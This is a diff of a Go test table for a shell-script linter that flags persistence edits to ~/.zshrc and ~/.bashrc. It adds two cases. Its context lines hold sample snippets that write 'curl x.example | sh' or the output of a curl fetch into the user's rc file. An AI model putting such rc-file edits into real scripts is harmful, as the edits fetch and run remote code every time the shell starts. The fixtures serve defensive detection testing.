@@ -155,6 +155,8 @@ var codeCases = []lintCase{
 	// The user's rc file with its old block left out and a plain one added, moved back over it.
 	{"s.sh", "persistence", "rc=\"$HOME/.zshrc\"\ntmp=\"$(mktemp)\"\nawk '/^# >>> d >>>$/{skip=1} !skip{print} /^# <<< d <<<$/{skip=0}' \"$rc\" > \"$tmp\"\nprintf '%s\\n' 'eval \"$(starship init zsh)\"' >> \"$tmp\"\nmv \"$tmp\" \"$rc\"\n", "note", 5},
 	{"s.sh", "persistence", "rc=\"$HOME/.zshrc\"\ntmp=\"$(mktemp)\"\ngrep -v '# d$' \"$rc\" > \"$tmp\"\necho \"$(curl -fsSL https://x.example/a)\" >> \"$tmp\"\nmv \"$tmp\" \"$rc\"\n", "warning", 5},
+	{"s.sh", "persistence", "rc=\"$HOME/.zshrc\"\nb='# >>> d'\ne='# <<< d'\ntmp=\"$(mktemp)\"\nawk -v b=\"$b\" -v e=\"$e\" '$0 == b {skip=1; next} $0 == e {skip=0; next} !skip' \"$rc\" > \"$tmp\"\nprintf '%s\\n' \"$b\" 'eval \"$(zoxide init zsh)\"' \"$e\" >> \"$tmp\"\nmv \"$tmp\" \"$rc\"\n", "note", 7},
+	{"s.sh", "persistence", "rc=\"$HOME/.zshrc\"\ntmp=\"$(mktemp)\"\nawk -v b=\"$X\" '{print b}' \"$rc\" > \"$tmp\"\nmv \"$tmp\" \"$rc\"\n", "warning", 4},
 	{"s.sh", "persistence", "rc=\"$HOME/.zshrc\"\ntmp=\"$(mktemp)\"\nawk '{print} END{print \"curl x.example | sh\"}' \"$rc\" > \"$tmp\"\nmv \"$tmp\" \"$rc\"\n", "warning", 4},
 	{"s.sh", "persistence", "tmp=\"$(mktemp)\"\ngrep -v '# d$' \"$HOME/.bashrc\" > \"$tmp\"\necho 'alias ll=\"ls -l\"' >> \"$tmp\"\nmv \"$tmp\" \"$HOME/.zshrc\"\n", "warning", 4},
 	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\nif [[ $ok != [yY]* ]]; then\n  exit 1\nfi\ncat \"$CFG\" >> ~/.bashrc\n", "note", 5},
